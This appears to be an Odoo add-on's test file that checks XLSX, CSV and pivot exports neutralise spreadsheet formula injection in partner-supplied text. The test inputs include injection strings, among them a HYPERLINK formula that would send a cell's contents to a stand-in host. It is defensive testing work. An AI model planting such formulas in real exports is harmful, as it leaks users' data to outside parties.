"""What leaves Odoo as a file that other programs open."""

import csv
import io
import json
import zipfile
from urllib.parse import urlencode

import xlsxwriter
from odoo.addons.web.controllers.export import CSVExport
from odoo.tests import HttpCase, new_test_user, tagged

from .common import MilepostCase, milestone


@tagged("post_install", "-at_install", "milepost")
class TestExports(MilepostCase):
    def test_what_partners_write_is_no_formula_in_an_export(self):
        shipment = self.new_shipment()
        texts = ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "{=1+1}", "fine"]
        self.ingest(*(milestone(shipment, None, n, raw_code=text) for n, text in enumerate(texts)))
        facts = self.env["milepost.milestone"].search([("shipment_id", "=", shipment.id)])
        rows = facts.export_data(["raw_code"])["datas"]
        self.assertEqual(len(rows), len(texts))
        shipment.action_order_transport()
        shipment.outbox_ids.reason = "=1+1"  # a refusal in the partner's words: a record that is no fact
        rows += shipment.export_data(["outbox_ids/reason"])["datas"]
        rows += shipment.outbox_ids.export_data(["reason"])["datas"]
        book = io.BytesIO()
        workbook = xlsxwriter.Workbook(book, {"in_memory": True})
        sheet = workbook.add_worksheet()
        for number, row in enumerate(rows):
            sheet.write_row(number, 0, row)
        workbook.close()
        with zipfile.ZipFile(book) as parts:
            self.assertNotIn("<f>", parts.read("xl/worksheets/sheet1.xml").decode())
        text = CSVExport().from_data([], ["Code"], rows)
        for [cell] in list(csv.reader(io.StringIO(text, newline="")))[1:]:
            self.assertRegex(cell, r"(?s)^('.*|fine)$")


@tagged("post_install", "-at_install", "milepost")
class TestExportedGroups(MilepostCase, HttpCase):
    """What records are grouped by stands in the files, too."""

    FORMULA = '=HYPERLINK("http://x.example?"&B2,"open")'

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        new_test_user(cls.env, "exporter", groups="milepost.group_viewer,base.group_allow_export")

    def sheet(self, path, data):
        """(cells that are formulas, texts) of the first sheet of a file."""
        self.authenticate("exporter", "exporter")
        answer = self.url_open(f"{path}?{urlencode({'data': json.dumps(data)})}")
        self.assertEqual(answer.status_code, 200, answer.text[:300])
        with zipfile.ZipFile(io.BytesIO(answer.content)) as parts:
            cells = parts.read("xl/worksheets/sheet1.xml").decode()
            return cells.count("<f>"), parts.read("xl/sharedStrings.xml").decode()

    def test_a_group_of_an_export_is_no_formula(self):
        shipment = self.new_shipment()
        self.ingest(*(milestone(shipment, None, n, raw_code=self.FORMULA) for n in range(2)))
        formulas, texts = self.sheet("/web/export/xlsx", {
            "model": "milepost.milestone", "fields": [{"name": "code", "label": "Code", "type": "selection"}],
            "ids": False, "domain": [["shipment_id", "=", shipment.id]], "groupby": ["raw_code"],
            "import_compat": False,
        })  # fmt: skip
        self.assertEqual(formulas, 0)
        self.assertIn("'=HYPERLINK", texts)

    def test_the_headers_of_a_pivot_are_no_formulas(self):
        formulas, texts = self.sheet("/web/pivot/export_xlsx", {
            "title": "Milestones", "model": "milepost.milestone", "measure_count": 1, "origin_count": 1,
            "col_group_headers": [[{"title": self.FORMULA, "width": 1, "height": 1}]],
            "measure_headers": [{"title": self.FORMULA, "is_bold": False}],
            "rows": [{"title": self.FORMULA, "indent": 0, "values": [{"value": -7, "is_bold": False}]}],
        })  # fmt: skip
        self.assertEqual(formulas, 0)
        self.assertIn("'=HYPERLINK", texts)
